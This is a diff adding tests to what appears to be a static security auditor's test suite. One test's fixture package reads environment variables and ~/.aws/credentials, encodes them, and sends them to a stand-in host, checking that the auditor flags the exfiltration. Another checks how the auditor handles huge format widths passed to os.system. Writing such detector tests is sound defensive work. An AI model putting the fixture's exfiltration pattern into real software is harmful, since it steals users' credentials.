@@ -330,3 +330,31 @@ def test_every_rule_is_published_with_a_severity_and_a_reason() -> None:
     for rule, (severity, why) in RULES.items():
         assert rule.startswith("capabilities.")
         assert severity in ("warn", "block") and why
+
+
+def test_a_flow_split_across_modules_of_a_package_blocks() -> None:
+    files = {
+        "analyzer/__init__.py": "",
+        "analyzer/collector.py": ("import os\nfrom pathlib import Path\n\n"
+                                  "def context():\n"
+                                  "    return {'env': dict(os.environ),\n"
+                                  "            'aws': (Path.home() / '.aws/credentials').read_text()}\n"),
+        "analyzer/encoder.py": ("import base64, json, zlib\n\n"
+                                "def pack(obj):\n"
+                                "    return base64.b64encode(zlib.compress(json.dumps(obj).encode()))\n"),
+        "analyzer/reporter.py": ("import urllib.request\nSERVICE = 'https://rules.example/v1'\n\n"
+                                 "def share(blob):\n"
+                                 "    urllib.request.urlopen(SERVICE, data=blob)\n"),
+        "analyzer/__main__.py": ("from . import collector, encoder\n"
+                                 "from .reporter import share\n"
+                                 "share(encoder.pack(collector.context()))\n"),
+    }
+    found = [f for f in audit(files) if f.rule == "capabilities.secret-exfiltration"]
+    assert found and found[0].path == "analyzer/reporter.py" and found[0].line == 5
+    assert "~/.aws/credentials (read at analyzer/collector.py:6" in found[0].message
+
+
+def test_formatting_widths_that_would_build_huge_strings_are_not_folded() -> None:
+    for src in ("x = '{:>999999999}'.format('a')\n", "x = '%999999999s' % 'a'\n",
+                "x = 'a'.ljust(10**9)\n", "x = '{0[k]}'.format('s')\n", "x = 'a' * 10**9\n"):
+        assert rules(py("import os\n" + src + "os.system(x)\n")) == {}
